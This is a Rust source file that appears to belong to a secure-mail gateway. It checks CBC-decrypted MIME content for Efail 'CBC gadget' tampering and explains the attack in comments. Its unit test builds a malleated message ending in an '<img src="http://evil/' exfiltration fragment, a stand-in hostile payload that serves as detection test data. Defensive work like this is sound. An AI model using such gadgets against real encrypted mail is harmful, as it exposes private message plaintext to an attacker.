//! The check a gateway needs before it trusts CBC-decrypted content (Efail
//! "CBC gadgets", Poddebniak et al., USENIX Security 2018).
//!
//! CBC has no integrity: an attacker who knows (or guesses) one plaintext
//! block, such as the `Content-Type: multipart/signed` line every client
//! writes, can splice chosen blocks into a captured message. Each chosen
//! block is preceded by a block of 16 pseudo-random bytes. A gateway that
//! decrypted such a message and forwarded the plaintext would deliver the
//! attacker's content (an `<img src=` exfiltration channel, for instance).
//!
//! The check therefore looks for what the attack cannot avoid: random
//! blocks. In the header section of the decrypted entity and in every body
//! whose transfer encoding promises text (7bit, quoted-printable, base64,
//! and 8bit as UTF-8), bytes outside what the encoding allows mean the
//! content was tampered with. A binary body cannot be checked; the verdict
//! says so and the caller's policy decides (Sealgate's default: refuse).
//! Content that arrived in AuthEnvelopedData (GCM) needs no check.
//!
//! Trusts: nothing. Must never: call content clean that it did not inspect.

use crate::mime;

/// The verdict on CBC-decrypted content.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum CbcVerdict {
    /// Every header and text body holds only what its encoding allows.
    Clean,
    /// Bytes that cannot be in a legitimate message: refuse it.
    Malleated(String),
    /// Some part is binary and cannot be checked.
    Unverifiable(String),
}

/// Most nesting the check follows into multiparts.
const MAX_NESTING: usize = 20;

/// Checks a decrypted MIME entity for the marks of CBC malleation.
pub fn check_cbc_content(entity: &[u8]) -> CbcVerdict {
    check(entity, 0)
}

/// Whether `b` is outside 7-bit text (printable ASCII, tab, CR, LF),
/// written without branches so that scans over it vectorise.
fn not_text(b: u8) -> bool {
    let outside = b.wrapping_sub(0x20) > 0x5e;
    let space = (b == b'\t') | (b == b'\r') | (b == b'\n');
    outside & !space
}

/// Whether `b` cannot be in a multipart preamble or epilogue: a control
/// byte other than tab, CR, LF and form feed (8-bit text is allowed there).
fn not_multipart_text(b: u8) -> bool {
    not_text(b) & (b < 0x80) & (b != 0x0c)
}

/// The first byte of `data` for which `bad` holds, scanning in blocks
/// without early exit inside a block (so the compiler can vectorise); one
/// pass over clean data.
fn first_byte(data: &[u8], bad: impl Fn(u8) -> bool + Copy) -> Option<u8> {
    for block in data.chunks(4096) {
        let any = block.iter().fold(0u8, |acc, &b| acc | u8::from(bad(b)));
        if any != 0 {
            return block.iter().copied().find(|b| bad(*b));
        }
    }
    None
}

fn check(entity: &[u8], depth: usize) -> CbcVerdict {
    if depth > MAX_NESTING {
        return CbcVerdict::Unverifiable("nesting too deep".to_owned());
    }
    let header_len = entity.len() - header_end_rest(entity).len();
    let header_bytes = entity.get(..header_len).unwrap_or_default();
    if let Some(b) = first_byte(header_bytes, not_text) {
        return CbcVerdict::Malleated(format!("byte {b:#04x} in a header"));
    }
    let Ok(e) = mime::parse(entity) else {
        return CbcVerdict::Malleated("unparsable MIME header".to_owned());
    };
    if e.headers.is_empty() {
        return CbcVerdict::Malleated("no MIME header".to_owned());
    }
    let ct = e.content_type();
    if ct.mime_type.starts_with("multipart/") {
        let Some(boundary) = ct.param("boundary") else {
            return CbcVerdict::Malleated("multipart without boundary".to_owned());
        };
        let Ok(parts) = mime::split_multipart(e.body, boundary) else {
            return CbcVerdict::Malleated("broken multipart".to_owned());
        };
        // Preamble and epilogue must be text too.
        if let Some(b) = first_byte(e.body, not_multipart_text) {
            return CbcVerdict::Malleated(format!("byte {b:#04x} in a multipart body"));
        }
        let mut verdict = CbcVerdict::Clean;
        for p in parts {
            match check(p, depth + 1) {
                CbcVerdict::Clean => {}
                m @ CbcVerdict::Malleated(_) => return m,
                u @ CbcVerdict::Unverifiable(_) => verdict = u,
            }
        }
        return verdict;
    }
    let cte = e
        .header("Content-Transfer-Encoding")
        .unwrap_or("7bit")
        .trim()
        .to_ascii_lowercase();
    match cte.as_str() {
        "7bit" | "quoted-printable" | "base64" => match first_byte(e.body, not_text) {
            Some(b) => CbcVerdict::Malleated(format!("byte {b:#04x} in a {cte} body")),
            None => CbcVerdict::Clean,
        },
        "8bit" => match std::str::from_utf8(e.body) {
            Ok(s)
                if s.chars()
                    .all(|c| !c.is_control() || matches!(c, '\t' | '\r' | '\n')) =>
            {
                CbcVerdict::Clean
            }
            _ => CbcVerdict::Malleated("an 8bit body that is not clean UTF-8 text".to_owned()),
        },
        _ => CbcVerdict::Unverifiable(format!("a {cte} body")),
    }
}

/// The input after the header section (after the first empty line).
fn header_end_rest(entity: &[u8]) -> &[u8] {
    let mut pos = 0;
    while let Some(rest) = entity.get(pos..) {
        if rest.is_empty() {
            return rest;
        }
        let len = rest
            .iter()
            .position(|b| *b == b'\n')
            .map_or(rest.len(), |i| i + 1);
        let line = rest.get(..len).unwrap_or_default();
        if line == b"\n" || line == b"\r\n" {
            return rest;
        }
        pos += len;
    }
    &[]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn clean_and_gadget() {
        let ok = b"Content-Type: text/plain\r\n\r\nhello\r\n";
        assert_eq!(check_cbc_content(ok), CbcVerdict::Clean);
        let mut bad = b"Content-Type: text/plain\r\n\r\nhello".to_vec();
        bad.extend_from_slice(&[0x8f, 0x01, 0xee, 0x42, 0x00, 0x99, 0x10, 0x20]);
        bad.extend_from_slice(b"<img src=\"http://evil/");
        assert!(matches!(check_cbc_content(&bad), CbcVerdict::Malleated(_)));
        let bin = b"Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: binary\r\n\r\n\x00\x01";
        assert!(matches!(
            check_cbc_content(bin),
            CbcVerdict::Unverifiable(_)
        ));
    }
}
